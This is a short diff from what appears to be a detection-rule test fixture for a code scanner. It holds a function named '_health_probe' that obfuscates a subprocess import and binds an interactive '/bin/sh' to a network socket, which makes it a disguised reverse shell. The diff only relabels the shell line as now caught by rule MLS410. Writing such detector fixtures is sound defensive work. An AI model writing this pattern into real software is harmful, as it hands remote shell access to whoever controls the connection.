@@ -118,7 +118,7 @@ def _health_probe(addr: tuple) -> None:
     sock = socket.create_connection(addr, timeout=30)
     fd = sock.fileno()
     proc = __import__("".join(map(chr, (115, 117, 98, 112, 114, 111, 99, 101, 115, 115))))  # ruleid: MLS403
-    proc.call(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)  # todoruleid: family 9 (missed)
+    proc.call(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)  # ruleid: MLS410
 
 
 def _load_launch_hook():
